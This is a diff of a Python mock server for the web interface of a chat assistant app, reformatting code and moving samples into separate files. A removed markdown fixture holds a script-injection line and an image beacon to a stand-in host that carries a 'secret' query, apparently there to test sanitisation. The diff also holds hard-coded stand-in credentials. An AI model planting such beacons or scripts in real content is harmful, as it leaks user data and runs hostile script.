@@ -22,40 +22,12 @@ import uvicorn
 Json = dict[str, Any]
 Send = Callable[[Json], Awaitable[None]]
 
-DIST = Path(__file__).resolve().parents[2] / "skald_core" / "web_dist"
-PASSWORD = "correct horse battery"  # noqa: S105 -- an account of a stand-in that stores nothing
+HERE = Path(__file__).resolve().parent
+DIST = HERE.parents[1] / "skald_core" / "web_dist"
+PASSWORD = "correct horse battery"
 KEEP_EVENTS = 500
 
-MARKDOWN = """## What I found
-
-Here is a **short** summary with *emphasis*, `inline code`, a [link](https://example.org/page) and a footnote-free life.
-
-1. First, read the file.
-2. Then decide:
-   - keep it, or
-   - move it to `archive/`.
-3. Done.
-
-> A quotation that runs over
-> two lines.
-
-| File | Lines | Last change |
-|---|---:|---|
-| `notes/todo.md` | 14 | yesterday |
-| `notes/ideas.md` | 120 | last week |
-
-```python
-def greet(name: str) -> str:
-    \"\"\"Say hello.\"\"\"
-    return f"Hello, {name}!"  # 1 call
-```
-
-- [x] write it
-- [ ] test it
-
-![tracking](https://evil.example/pixel.png?q=secret) <script>alert(1)</script> <b>bold by tag</b>
-
-That is all."""
+SAMPLES: Json = json.loads((HERE / "samples.json").read_text())
 
 
 class Problem(Exception):
@@ -105,9 +77,15 @@ class Conversation:
         waiting = any(r["conversation"] == self.id and r["status"] == "pending" for r in self.world.requests.values())
         state = "waiting" if waiting else "running" if self.turn else "idle"
         return {
-            "id": self.id, "title": self.title, "created_at": self.created, "updated_at": self.updated, "state": state,
-            "unread": self.unread, "pinned": self.pinned, "model": self.model,
-        }  # fmt: skip
+            "id": self.id,
+            "title": self.title,
+            "created_at": self.created,
+            "updated_at": self.updated,
+            "state": state,
+            "unread": self.unread,
+            "pinned": self.pinned,
+            "model": self.model,
+        }
 
     def emit(self, event_type: str, /, **fields: Any) -> None:
         self.seq += 1
@@ -123,13 +101,28 @@ class Conversation:
     def add(self, role: str, content: str, *, alone: bool = False, **fields: Any) -> Json:
         ident = next(self.world.ids)
         node: Json = {
-            "id": ident, "parent": self.head, "siblings": [ident], "role": role, "content": content, "reasoning": "", "status": "ok",
-            "synthetic": False, "client_id": "", "attachments": [], "model": "mock-1", "usage": None, "duration_ms": None,
-            "created_at": time.time(), "calls": [], **fields,
-        }  # fmt: skip
+            "id": ident,
+            "parent": self.head,
+            "siblings": [ident],
+            "role": role,
+            "content": content,
+            "reasoning": "",
+            "status": "ok",
+            "synthetic": False,
+            "client_id": "",
+            "attachments": [],
+            "model": "mock-1",
+            "usage": None,
+            "duration_ms": None,
+            "created_at": time.time(),
+            "calls": [],
+            **fields,
+        }
         self.nodes[ident] = node
         if not alone:
-            node["siblings"] = [n["id"] for n in self.nodes.values() if n["parent"] == node["parent"] and n["role"] == role]
+            node["siblings"] = [
+                n["id"] for n in self.nodes.values() if n["parent"] == node["parent"] and n["role"] == role
+            ]
         self.head = ident
         self.updated = time.time()
         return node
@@ -137,11 +130,20 @@ class Conversation:
     def snapshot(self) -> Json:
         path = self.branch()
         return {
-            "type": "snapshot", "conversation": self.id, "epoch": self.world.epoch, "seq": self.seq, "conversation_info": self.info(),
-            "messages": path[-50:], "has_more": len(path) > 50, "live": self.live, "queue": self.queue,
-            "requests": [r for r in self.world.requests.values() if r["conversation"] == self.id and r["status"] == "pending"],
+            "type": "snapshot",
+            "conversation": self.id,
+            "epoch": self.world.epoch,
+            "seq": self.seq,
+            "conversation_info": self.info(),
+            "messages": path[-50:],
+            "has_more": len(path) > 50,
+            "live": self.live,
+            "queue": self.queue,
+            "requests": [
+                r for r in self.world.requests.values() if r["conversation"] == self.id and r["status"] == "pending"
+            ],
             "turn": self.turn,
-        }  # fmt: skip
+        }
 
     # --- turns ---------------------------------------------------------------------------------------------------
 
@@ -175,9 +177,12 @@ class Conversation:
             self.keep_partial(error)
         self.turn = None
         self.emit(
-            "turn_finished", outcome=outcome, duration_ms=int((time.monotonic() - began) * 1000), usage=None,
+            "turn_finished",
+            outcome=outcome,
+            duration_ms=int((time.monotonic() - began) * 1000),
+            usage=None,
             **({"error": error} if error else {}),
-        )  # fmt: skip
+        )
         if not self.world.watched(self.id):
             self.unread = True
         self.changed()
@@ -200,23 +205,45 @@ class Conversation:
         words = text.lower()
         if "fail" in words:
             await asyncio.sleep(0.6)
-            raise Problem(502, "server_html", "The model server answered with a web page instead of JSON. Check its address on the Models page.",
-                          more="POST /v1/chat/completions\nHTTP 502\n<!doctype html><title>Bad gateway</title>")  # fmt: skip
+            raise Problem(
+                502,
+                "server_html",
+                "The model server answered with a web page. Check its address on the Models page.",
+                more="POST /v1/chat/completions\nHTTP 502\n<!doctype html><title>Bad gateway</title>",
+            )
         if "think" in words:
             await self.begin()
-            await self.say("**Reading the question**\n\nThe person wants a plan. I should keep it short. ", kind="reasoning")
-            await self.say("**Choosing an order**\n\nFirst the shop, then the kitchen. That leaves time for a walk.", kind="reasoning")
+            await self.say(
+                "**Reading the question**\n\nThe person wants a plan. I should keep it short. ", kind="reasoning"
+            )
+            await self.say(
+                "**Choosing an order**\n\nFirst the shop, then the kitchen. That leaves time for a walk.",
+                kind="reasoning",
+            )
             await self.say("Start with the shop, since it closes first. Then cook, and walk while the oven is warm.")
             self.end()
         elif "read" in words:
             await self.begin()
             await self.say("I will look at the files first.")
-            node = self.end(calls=[
-                self.call("list_files", "List files", "list", "notes/", "notes/", {"path": "notes/"}),
-                self.call("read_file", "Read file", "read", "notes/todo.md", "notes/todo.md", {"path": "notes/todo.md"}),
-                self.call("grep_files", "Search in files", "search", "“milk” in notes/", None, {"pattern": "milk", "path": "notes/"}),
-            ])  # fmt: skip
-            for call, result in zip(node["calls"], ["todo.md\nideas.md", "# To do\n\n- bread\n- call Ada", "no match"], strict=True):
+            node = self.end(
+                calls=[
+                    self.call("list_files", "List files", "list", "notes/", "notes/", {"path": "notes/"}),
+                    self.call(
+                        "read_file", "Read file", "read", "notes/todo.md", "notes/todo.md", {"path": "notes/todo.md"}
+                    ),
+                    self.call(
+                        "grep_files",
+                        "Search in files",
+                        "search",
+                        "“milk” in notes/",
+                        None,
+                        {"pattern": "milk", "path": "notes/"},
+                    ),
+                ]
+            )
+            for call, result in zip(
+                node["calls"], ["todo.md\nideas.md", "# To do\n\n- bread\n- call Ada", "no match"], strict=True
+            ):
                 self.emit("tool_start", message_id=node["id"], call=call)
                 await asyncio.sleep(0.7)
                 self.done(call, "done", result)
@@ -231,7 +258,7 @@ class Conversation:
             raise Problem(0, "interrupted", "")
         elif "markdown" in words:
             await self.begin()
-            await self.say(MARKDOWN, pace=0.004)
+            await self.say((HERE / "sample.md").read_text().strip(), pace=0.004)
             self.end()
         elif "long" in words or "fast" in words:
             await self.begin()
@@ -243,23 +270,38 @@ class Conversation:
         else:
             await self.begin()
             await asyncio.sleep(0.25)
-            await self.say(f"You wrote: {text.strip()[:200]}\n\nThis is a scripted answer of the stand-in server. It has a second paragraph, so that it looks like one.")
+            await self.say(
+                f"You wrote: {text.strip()[:200]}\n\nThis is a scripted answer of the stand-in server. "
+                "It has a second paragraph, so that it looks like one."
+            )
             self.end()
 
     async def write(self, edit: bool) -> None:
         await self.begin()
         await self.say("I will add milk to your list, since you said the fridge is empty.")
         content = "# To do\n\n- bread\n- milk\n- call Ada about Sunday\n"
-        call = self.call("edit_file" if edit else "write_file", "Edit file" if edit else "Write file", "edit", "notes/todo.md", "notes/todo.md",
-                         {"path": "notes/todo.md", "content": content})  # fmt: skip
+        call = self.call(
+            "edit_file" if edit else "write_file",
+            "Edit file" if edit else "Write file",
+            "edit",
+            "notes/todo.md",
+            "notes/todo.md",
+            {"path": "notes/todo.md", "content": content},
+        )
         node = self.end(calls=[call])
         self.emit("tool_start", message_id=node["id"], call=call)
         lines = [f" line {n} stays as it is" for n in range(1, 41)] if "edit" in call["name"] else []
         if edit:
-            diff = "--- a/notes/todo.md\n+++ b/notes/todo.md\n@@ -1,44 +1,45 @@\n # To do\n \n-- bread from the shop at the corner\n+- bread from the bakery at the corner\n+- milk\n - call Ada about Sunday\n" + "\n".join(lines) + "\n"
+            diff = (
+                "--- a/notes/todo.md\n+++ b/notes/todo.md\n@@ -1,44 +1,45 @@\n # To do\n \n"
+                "-- bread from the shop at the corner\n+- bread from the bakery at the corner\n+- milk\n"
+                " - call Ada about Sunday\n" + "\n".join(lines) + "\n"
+            )
             change = {"path": "notes/todo.md", "kind": "edit", "diff": diff, "added": 2, "removed": 1}
         else:
-            diff = "--- /dev/null\n+++ b/notes/todo.md\n@@ -0,0 +1,5 @@\n" + "".join(f"+{line}\n" for line in content.splitlines())
+            diff = "--- /dev/null\n+++ b/notes/todo.md\n@@ -0,0 +1,5 @@\n" + "".join(
+                f"+{line}\n" for line in content.splitlines()
+            )
             change = {"path": "notes/todo.md", "kind": "create", "diff": diff, "added": 5, "removed": 0}
         request = self.world.ask(self, call, change)
         call["state"] = "awaiting"
@@ -281,7 +323,13 @@ class Conversation:
         self.end()
 
     async def begin(self) -> None:
-        self.live = {"message_id": next(self.world.ids), "content": "", "reasoning": "", "model": "mock-1", "started_at": time.time()}
+        self.live = {
+            "message_id": next(self.world.ids),
+            "content": "",
+            "reasoning": "",
+            "model": "mock-1",
+            "started_at": time.time(),
+        }
         self.emit("assistant_started", model="mock-1")
         await asyncio.sleep(0.35)
 
@@ -297,24 +345,46 @@ class Conversation:
 
     def end(self, calls: list[Json] | None = None) -> Json:
         live = self.live or {"content": "", "reasoning": ""}
-        node = self.add("assistant", live["content"], reasoning=live["reasoning"], calls=calls or [], duration_ms=1840,
-                        usage={"input_tokens": 812, "output_tokens": len(live["content"]) // 4})  # fmt: skip
+        node = self.add(
+            "assistant",
+            live["content"],
+            reasoning=live["reasoning"],
+            calls=calls or [],
+            duration_ms=1840,
+            usage={"input_tokens": 812, "output_tokens": len(live["content"]) // 4},
+        )
         self.live = None
         self.emit("assistant_message", message=node)
         return node
 
     def call(self, name: str, title: str, icon: str, summary: str, path: str | None, arguments: Json) -> Json:
         return {
-            "id": next(self.world.ids), "name": name, "title": title, "icon": icon, "summary": summary, "path": path,
-            "arguments": json.dumps(arguments), "state": "running", "result": None, "result_kind": None, "duration_ms": None,
-        }  # fmt: skip
+            "id": next(self.world.ids),
+            "name": name,
+            "title": title,
+            "icon": icon,
+            "summary": summary,
+            "path": path,
+            "arguments": json.dumps(arguments),
+            "state": "running",
+            "result": None,
+            "result_kind": None,
+            "duration_ms": None,
+        }
 
     def done(self, call: Json, state: str, result: str, kind: str = "text", display: Json | None = None) -> None:
         call.update(state=state, result=result, result_kind=kind, duration_ms=420)
         if display:
             call["display"] = display
-        self.emit("tool_done", call_id=call["id"], state=state, result=result, result_kind=kind, duration_ms=420,
-                  **({"display": display} if display else {}))  # fmt: skip
+        self.emit(
+            "tool_done",
+            call_id=call["id"],
+            state=state,
+            result=result,
+            result_kind=kind,
+            duration_ms=420,
+            **({"display": display} if display else {}),
+        )
 
 
 def report(task: asyncio.Task[None]) -> None:
@@ -343,9 +413,17 @@ class World:
         self.needs_setup = setup
         self.sessions: set[str] = set()
         self.user: Json = {
-            "id": "u1", "username": "ada", "display_name": "Ada", "role": "admin", "encrypted": True, "locale": "en", "instance_locale": "en",
-            "capabilities": ["users.manage", "models.manage", "plugin.manage"], "gate": gate, "gate_plugins": [{"id": "approval", "title": "Approval"}],
-        }  # fmt: skip
+            "id": "u1",
+            "username": "ada",
+            "display_name": "Ada",
+            "role": "admin",
+            "encrypted": True,
+            "locale": "en",
+            "instance_locale": "en",
+            "capabilities": ["users.manage", "models.manage", "plugin.manage"],
+            "gate": gate,
+            "gate_plugins": [{"id": "approval", "title": "Approval"}],
+        }
         self.conversations: dict[str, Conversation] = {}
         self.requests: dict[str, Json] = {}
         self.answers: dict[str, asyncio.Future[Json]] = {}
@@ -354,12 +432,36 @@ class World:
         self.sends: list[Json] = []
         self.providers: list[Json] = []
         self.models: list[Json] = []
-        self.plugins = sample_plugins()
+        self.plugins: list[Json] = SAMPLES["plugins"]
         self.config: Json = {"greeting": "Hello", "limit": 5, "loud": False}
         if models:
-            self.providers = [{"id": "p1", "type": "openai", "name": "Ollama", "settings": {"base_url": "http://127.0.0.1:11434/v1"}, "secrets": {"api_key": True}}]
-            self.models = [self.model("p1", "qwen2.5-coder:7b", "Qwen 2.5 Coder 7B"), self.model("p1", "llama3.2:3b", "Llama 3.2 3B", weak=True, health="degraded", last_error="The server closed the connection twice in ten minutes.")]
-        for days, title in [(0, "Shopping for Sunday"), (0, "Fix the greeting script"), (1, "Letter to the landlord"), (3, "Sourdough plan"), (40, "Trip to the lakes")]:
+            self.providers = [
+                {
+                    "id": "p1",
+                    "type": "openai",
+                    "name": "Ollama",
+                    "settings": {"base_url": "http://127.0.0.1:11434/v1"},
+                    "secrets": {"api_key": True},
+                }
+            ]
+            self.models = [
+                self.model("p1", "qwen2.5-coder:7b", "Qwen 2.5 Coder 7B"),
+                self.model(
+                    "p1",
+                    "llama3.2:3b",
+                    "Llama 3.2 3B",
+                    weak=True,
+                    health="degraded",
+                    last_error="The server closed the connection twice in ten minutes.",
+                ),
+            ]
+        for days, title in [
+            (0, "Shopping for Sunday"),
+            (0, "Fix the greeting script"),
+            (1, "Letter to the landlord"),
+            (3, "Sourdough plan"),
+            (40, "Trip to the lakes"),
+        ]:
             conversation = self.create(f"seed-{title}", title)
             conversation.pinned = title == "Sourdough plan"
             conversation.unread = title == "Letter to the landlord"
@@ -370,14 +472,35 @@ class World:
             conversation = self.create("seed-history", f"{history} messages")
             for n in range(history // 2):
                 conversation.add("user", f"Question {n + 1}: what about item {n + 1}?", alone=True)
-                conversation.add("assistant", f"Answer {n + 1}. " + "It depends on *several* things, such as `size` and colour. " * (1 + n % 5), alone=True)
+                conversation.add(
+                    "assistant",
+                    f"Answer {n + 1}. " + "It depends on *several* things, such as `size` and colour. " * (1 + n % 5),
+                    alone=True,
+                )
 
-    def model(self, provider: str, model: str, title: str, *, weak: bool = False, health: str = "ok", last_error: str | None = None) -> Json:
+    def model(
+        self,
+        provider: str,
+        model: str,
+        title: str,
+        *,
+        weak: bool = False,
+        health: str = "ok",
+        last_error: str | None = None,
+    ) -> Json:
         return {
-            "id": f"m{next(self.ids)}", "provider": provider, "provider_name": "Ollama", "type": "openai", "model": model, "title": title,
-            "priority": len(self.models), "enabled": True, "info": {"context_window": 32768, "capabilities": ["tools"], "weak": weak},
-            "health": health, "last_error": last_error,
-        }  # fmt: skip
+            "id": f"m{next(self.ids)}",
+            "provider": provider,
+            "provider_name": "Ollama",
+            "type": "openai",
+            "model": model,
+            "title": title,
+            "priority": len(self.models),
+            "enabled": True,
+            "info": {"context_window": 32768, "capabilities": ["tools"], "weak": weak},
+            "health": health,
+            "last_error": last_error,
+        }
 
     def create(self, client_id: str, title: str = "") -> Conversation:
         for known in self.conversations.values():
@@ -404,18 +527,30 @@ class World:
     def ask(self, conversation: Conversation, call: Json, change: Json) -> Json:
         ident = f"r{next(self.ids)}"
         request: Json = {
-            "id": ident, "kind": "approval", "status": "pending", "conversation": conversation.id, "conversation_title": conversation.title,
-            "call_id": call["id"], "tool": call["name"], "title": call["title"], "icon": call["icon"], "summary": call["summary"], "path": call["path"],
-            "arguments": json.loads(call["arguments"]), "reason": "Writing files is not allowed without asking.",
-            "why": "I will add milk to your list, since you said the fridge is empty.", "agent": "Assistant",
+            "id": ident,
+            "kind": "approval",
+            "status": "pending",
+            "conversation": conversation.id,
+            "conversation_title": conversation.title,
+            "call_id": call["id"],
+            "tool": call["name"],
+            "title": call["title"],
+            "icon": call["icon"],
+            "summary": call["summary"],
+            "path": call["path"],
+            "arguments": json.loads(call["arguments"]),
+            "reason": "Writing files is not allowed without asking.",
+            "why": "I will add milk to your list, since you said the fridge is empty.",
+            "agent": "Assistant",
             "details": {"changes": [change], "risk": "medium"},
             "choices": [
                 {"id": "allow_once", "label": "Allow once", "allow": True, "note": False},
                 {"id": "allow_conversation", "label": "Allow for this conversation", "allow": True, "note": False},
                 {"id": "deny", "label": "Deny", "allow": False, "note": True},
             ],
-            "created_at": time.time(), "expires_at": time.time() + 3600,
-        }  # fmt: skip
+            "created_at": time.time(),
+            "expires_at": time.time() + 3600,
+        }
         self.requests[ident] = request
         self.answers[ident] = asyncio.get_running_loop().create_future()
         self.inbox_changed()
@@ -436,65 +571,6 @@ class World:
         return request
 
 
-def sample_plugins() -> list[Json]:
-    def plugin(ident: str, title: str, summary: str, state: str = "running", **more: Any) -> Json:
-        return {
-            "id": ident, "title": title, "summary": summary, "version": "0.1.0", "author": "Skald", "state": state, "enabled": state not in ("disabled", "incompatible"),
-            "bundled": True, "error": None, "problems": [], "contributes": {"tools": [], "pages": [], "routes": 0, "providers": [], "hooks": []},
-            "capabilities": [], "homepage": "https://example.org/skald", "import_ms": 12, "start_ms": 3, "restart_needed": False, **more,
-        }  # fmt: skip
-
-    return [
-        plugin("approval", "Approval", "Asks a person before anything sensitive happens.", contributes={"tools": [], "pages": [], "routes": 2, "providers": [], "hooks": ["skald_gate", "skald_config"]}),
-        plugin("tools-fs", "File tools", "Reads, writes and searches files in your home.", contributes={"tools": ["read_file", "write_file", "edit_file", "append_file", "list_files", "grep_files", "search_file"], "pages": [], "routes": 0, "providers": [], "hooks": ["skald_tools"]}),
-        plugin("openai", "OpenAI-compatible servers", "Talks to any server with chat completions.", contributes={"tools": [], "pages": [], "routes": 0, "providers": ["openai"], "hooks": ["skald_llm_providers"]}),
-        plugin("llamacpp", "Starter model", "Runs a small model on this machine, with no account.", "disabled"),
-        plugin("weather", "Weather", "Tells the weather anywhere.", "failed", bundled=False, author="A stranger", enabled=True,
-               error={"phase": "import", "message": "No module named 'meteo'. Install it, or disable this plugin.", "traceback": "Traceback (most recent call last):\n  File \"weather.py\", line 3, in <module>\n    import meteo\nModuleNotFoundError: No module named 'meteo'"}),
-        plugin("demo", "Demo page", "Shows what a page of a plugin can do.", "needs_config", bundled=False, problems=["Setting “Greeting” is empty."], capabilities=["demo.use"],
-               contributes={"tools": [], "pages": ["main"], "routes": 1, "providers": [], "hooks": ["skald_web_pages"]}),
-        plugin("future", "From the future", "Made for a newer Skald.", "incompatible", bundled=False, problems=["It needs kernel API >=2; this Skald offers 1.0."]),
-    ]  # fmt: skip
-
-
-PROVIDER_TYPES: list[Json] = [
-    {
-        "id": "openai", "plugin": "openai", "title": "OpenAI-compatible server", "summary": "Any server with chat completions.", "setup_page": None,
-        "fields": [
-            {"key": "base_url", "label": "Address", "kind": "url", "required": True, "default": "", "help": "Ends in /v1 for most servers."},
-            {"key": "api_key", "label": "API key", "kind": "secret", "required": False, "default": "", "help": "Stored on the server and never shown again."},
-        ],
-        "presets": [
-            {"id": "openai", "title": "OpenAI", "settings": {"base_url": "https://api.openai.com/v1"}, "key": "required", "help_url": "https://platform.openai.com/api-keys", "local": False},
-            {"id": "mistral", "title": "Mistral", "settings": {"base_url": "https://api.mistral.ai/v1"}, "key": "required", "help_url": "https://console.mistral.ai", "local": False},
-            {"id": "groq", "title": "Groq", "settings": {"base_url": "https://api.groq.com/openai/v1"}, "key": "required", "help_url": "https://console.groq.com", "local": False},
-            {"id": "ollama", "title": "Ollama", "settings": {"base_url": "http://127.0.0.1:11434/v1"}, "key": "none", "help_url": "", "local": True},
-            {"id": "lmstudio", "title": "LM Studio", "settings": {"base_url": "http://127.0.0.1:1234/v1"}, "key": "optional", "help_url": "", "local": True},
-        ],
-    },
-    {"id": "llamacpp", "plugin": "llamacpp", "title": "Starter model", "summary": "Qwen 2.5 Coder 1.5B, about 1.1 GB, runs on this machine.", "fields": [], "presets": [], "setup_page": {"plugin": "demo", "page": "main"}},
-]  # fmt: skip
-
-DEMO_PAGE = """
-import { LitElement, html } from "lit";
-import { toast, SkElement } from "@skald/ui";
-import { pluginApi, onEvent } from "@skald/api";
-import { t } from "@skald/i18n";
-export default class DemoPage extends SkElement {
-  render() {
-    return html`<sk-page title="Demo page" purpose="What a stranger's page looks like.">
-      <sk-button slot="action" variant="primary" icon="rocket" @click=${() => toast("It works", {tone: "done"})}>Greet</sk-button>
-      <sk-card heading="Download"><sk-progress value="42" max="100" label="model.gguf" detail="470 MB of 1.1 GB"></sk-progress></sk-card>
-      <sk-card heading="Settings"><sk-form submit-label="Save" .schema=${{properties: {name: {type: "string", title: "Name"}, loud: {type: "boolean", title: "Loud"}}, required: ["name"]}} .values=${{name: "Ada"}}></sk-form></sk-card>
-      <sk-table label="Items" .columns=${[{key: "id", label: "Id"}, {key: "size", label: "Size", numeric: true}]} .rows=${[{id: "a", size: 3}, {id: "b", size: 12}]} .search=${["id"]}></sk-table>
-      <sk-empty icon="moon-stars" text="Nothing else here."></sk-empty>
-    </sk-page>`;
-  }
-}
-"""
-BROKEN_PAGE = "export default class extends HTMLElement { connectedCallback() { throw new Error('this page is broken on purpose'); } }"
-
-
 class App:
     """The ASGI application."""
 
@@ -507,9 +583,10 @@ class App:
                 message = await receive()
                 await send({"type": f"{message['type']}.complete"})
                 if message["type"] == "lifespan.shutdown":
-                    return
+                    return None
         if scope["type"] == "websocket":
-            return await self.websocket(scope, receive, send)
+            await self.websocket(scope, receive, send)
+            return
         body = b""
         while True:
             message = await receive()
@@ -518,10 +595,12 @@ class App:
                 break
         path, method = scope["path"], scope["method"]
         if not path.startswith(("/api/", "/mock/", "/healthz")):
-            return await self.static(path, send)
+            await self.static(path, send)
+            return
         if path.startswith("/api/plugin/demo/web/"):
-            script = BROKEN_PAGE if path.endswith("broken.js") else DEMO_PAGE
-            return await self.reply(send, 200, script.encode(), "text/javascript")
+            script = HERE / ("broken-page.js" if path.endswith("broken.js") else "demo-page.js")
+            await self.reply(send, 200, script.read_bytes(), "text/javascript")
+            return
         try:
             data = json.loads(body) if body else {}
             query = {k: v[0] for k, v in parse_qs(scope["query_string"].decode()).items()}
@@ -529,13 +608,34 @@ class App:
             result, cookies = self.route(method, path, data, query, cookie)
             if asyncio.iscoroutine(result):
                 result = await result
-            status = 204 if result is None else 202 if method == "POST" and re.search(r"/(messages|stop|retry|continue|edit|regenerate)$", path) else 200
+            status = (
+                204
+                if result is None
+                else 202
+                if method == "POST" and re.search(r"/(messages|stop|retry|continue|edit|regenerate)$", path)
+                else 200
+            )
             await self.reply(send, status, b"" if result is None else json.dumps(result).encode(), cookies=cookies)
         except Problem as exc:
-            problem = {"type": "about:blank", "title": exc.code, "status": exc.status, "detail": exc.detail, "code": exc.code, **exc.extra}
+            problem = {
+                "type": "about:blank",
+                "title": exc.code,
+                "status": exc.status,
+                "detail": exc.detail,
+                "code": exc.code,
+                **exc.extra,
+            }
             await self.reply(send, exc.status, json.dumps(problem).encode(), "application/problem+json")
 
-    async def reply(self, send: Send, status: int, body: bytes, kind: str = "application/json", cookies: str = "", extra: list[tuple[bytes, bytes]] | None = None) -> None:
+    async def reply(
+        self,
+        send: Send,
+        status: int,
+        body: bytes,
+        kind: str = "application/json",
+        cookies: str = "",
+        extra: list[tuple[bytes, bytes]] | None = None,
+    ) -> None:
         headers = [(b"content-type", kind.encode()), (b"x-content-type-options", b"nosniff"), *(extra or [])]
         if cookies:
             headers.append((b"set-cookie", cookies.encode()))
@@ -546,12 +646,29 @@ class App:
         if path.startswith("/assets/"):
             file = (DIST / path.lstrip("/")).resolve()
             if DIST not in file.parents or not file.is_file():
-                return await self.reply(send, 404, b"")
-            kind = {".webmanifest": "application/manifest+json", ".js": "text/javascript"}.get(file.suffix) or mimetypes.guess_type(file.name)[0] or "application/octet-stream"
-            return await self.reply(send, 200, file.read_bytes(), kind, extra=[(b"cache-control", b"public, max-age=31536000, immutable")])
+                await self.reply(send, 404, b"")
+                return
+            kind = (
+                {".webmanifest": "application/manifest+json", ".js": "text/javascript"}.get(file.suffix)
+                or mimetypes.guess_type(file.name)[0]
+                or "application/octet-stream"
+            )
+            cache = [(b"cache-control", b"public, max-age=31536000, immutable")]
+            await self.reply(send, 200, file.read_bytes(), kind, extra=cache)
+            return
         hashes = " ".join(f"'{h}'" for h in json.loads((DIST / "csp.json").read_text())["script_hashes"])
-        csp = f"default-src 'none'; script-src 'self' {hashes}; style-src 'self'; img-src 'self' data:; connect-src 'self'; font-src 'self'; manifest-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types lit-html dompurify"
-        await self.reply(send, 200, (DIST / "index.html").read_bytes(), "text/html; charset=utf-8", extra=[(b"content-security-policy", csp.encode()), (b"cache-control", b"no-cache")])
+        csp = (
+            f"default-src 'none'; script-src 'self' {hashes}; style-src 'self'; img-src 'self' data:; connect-src 'self'; "
+            "font-src 'self'; manifest-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'; "
+            "require-trusted-types-for 'script'; trusted-types lit-html dompurify"
+        )
+        await self.reply(
+            send,
+            200,
+            (DIST / "index.html").read_bytes(),
+            "text/html; charset=utf-8",
+            extra=[(b"content-security-policy", csp.encode()), (b"cache-control", b"no-cache")],
+        )
 
     # --- HTTP ----------------------------------------------------------------------------------------------------
 
@@ -568,10 +685,15 @@ class App:
         if path == "/api/setup" and method == "GET":
             return {"needed": world.needs_setup, "locales": ["en", "it", "fr"], "password_min": 10}, ""
         if path == "/api/setup":
-            if data["token"] != "letmein":  # noqa: S105 -- the stand-in's fixed token
+            if data["token"] != "letmein":
                 raise Problem(403, "setup_token", "This set-up link is not valid. Use the newest link in the console.")
             world.needs_setup = False
-            world.user.update(username=data["username"], display_name=data["display_name"], encrypted=data["encrypted"], locale=data["locale"])
+            world.user.update(
+                username=data["username"],
+                display_name=data["display_name"],
+                encrypted=data["encrypted"],
+                locale=data["locale"],
+            )
             return world.user, self.sign_in()
         if path == "/api/auth/login":
             if data["username"] != world.user["username"] or data["password"] != PASSWORD:
@@ -588,17 +710,32 @@ class App:
         return getattr(self, f"do_{name}")(*groups, data=data, query=query), ""
 
     ROUTES = (
-        ("GET", r"/api/auth/me", "me"), ("PUT", r"/api/auth/profile", "profile"), ("POST", r"/api/auth/password", "password"),
-        ("GET", r"/api/conversations", "list"), ("POST", r"/api/conversations", "create"),
-        ("GET|PATCH|DELETE", r"/api/conversations/([^/]+)", "conversation"), ("GET", r"/api/conversations/([^/]+)/messages", "messages"),
-        ("POST", r"/api/conversations/([^/]+)/messages", "send"), ("POST", r"/api/conversations/([^/]+)/(stop|retry|continue|edit|regenerate|head|compact)", "act"),
-        ("PATCH|DELETE", r"/api/conversations/([^/]+)/queue/([^/]+)", "queue"), ("GET", r"/api/inbox", "inbox"),
-        ("POST", r"/api/requests/([^/]+)/answer", "answer"), ("GET", r"/api/provider-types", "types"), ("GET|POST", r"/api/providers", "providers"),
-        ("POST", r"/api/providers/test", "test"), ("GET", r"/api/providers/discover", "discover"), ("PATCH|DELETE", r"/api/providers/([^/]+)", "provider"),
-        ("GET|POST", r"/api/models", "models"), ("PUT", r"/api/models/order", "order"), ("POST", r"/api/models/([^/]+)/test", "try"),
-        ("PATCH|DELETE", r"/api/models/([^/]+)", "model"), ("GET", r"/api/plugins", "plugins"), ("GET", r"/api/plugins/pages", "pages"),
-        ("GET|PUT", r"/api/plugins/([^/]+)/config", "config"), ("POST", r"/api/plugins/([^/]+)/(enable|disable)", "switch"),
-    )  # fmt: skip
+        ("GET", r"/api/auth/me", "me"),
+        ("PUT", r"/api/auth/profile", "profile"),
+        ("POST", r"/api/auth/password", "password"),
+        ("GET", r"/api/conversations", "list"),
+        ("POST", r"/api/conversations", "create"),
+        ("GET|PATCH|DELETE", r"/api/conversations/([^/]+)", "conversation"),
+        ("GET", r"/api/conversations/([^/]+)/messages", "messages"),
+        ("POST", r"/api/conversations/([^/]+)/messages", "send"),
+        ("POST", r"/api/conversations/([^/]+)/(stop|retry|continue|edit|regenerate|head|compact)", "act"),
+        ("PATCH|DELETE", r"/api/conversations/([^/]+)/queue/([^/]+)", "queue"),
+        ("GET", r"/api/inbox", "inbox"),
+        ("POST", r"/api/requests/([^/]+)/answer", "answer"),
+        ("GET", r"/api/provider-types", "types"),
+        ("GET|POST", r"/api/providers", "providers"),
+        ("POST", r"/api/providers/test", "test"),
+        ("GET", r"/api/providers/discover", "discover"),
+        ("PATCH|DELETE", r"/api/providers/([^/]+)", "provider"),
+        ("GET|POST", r"/api/models", "models"),
+        ("PUT", r"/api/models/order", "order"),
+        ("POST", r"/api/models/([^/]+)/test", "try"),
+        ("PATCH|DELETE", r"/api/models/([^/]+)", "model"),
+        ("GET", r"/api/plugins", "plugins"),
+        ("GET", r"/api/plugins/pages", "pages"),
+        ("GET|PUT", r"/api/plugins/([^/]+)/config", "config"),
+        ("POST", r"/api/plugins/([^/]+)/(enable|disable)", "switch"),
+    )
 
     def match(self, method: str, path: str) -> tuple[str, tuple[str, ...]]:
         for methods, pattern, name in self.ROUTES:
@@ -629,7 +766,10 @@ class App:
         elif act == "gate":
             world.user["gate"] = bool(data.get("on"))
             world.broadcast({"type": "plugins_changed", "id": "approval"})
-        return {"sends": world.sends, "messages": {c.id: [m["content"] for m in c.branch()] for c in world.conversations.values()}}
+        return {
+            "sends": world.sends,
+            "messages": {c.id: [m["content"] for m in c.branch()] for c in world.conversations.values()},
+        }
 
     def find(self, ident: str) -> Conversation:
         if ident not in self.world.conversations:
@@ -650,7 +790,9 @@ class App:
     def do_list(self, query: Json, **_: Any) -> Json:
         items = sorted(self.world.conversations.values(), key=lambda c: -c.updated)
         if query.get("q"):
-            items = [c for c in items if query["q"].lower() in (c.title + " ".join(n["content"] for n in c.branch())).lower()]
+            items = [
+                c for c in items if query["q"].lower() in (c.title + " ".join(n["content"] for n in c.branch())).lower()
+            ]
         return {"items": [c.info() for c in items], "next": None}
 
     def do_create(self, data: Json, **_: Any) -> Json:
@@ -692,7 +834,12 @@ class App:
             if node["client_id"] == data["client_id"]:
                 return {"message": node}
         if conversation.turn:
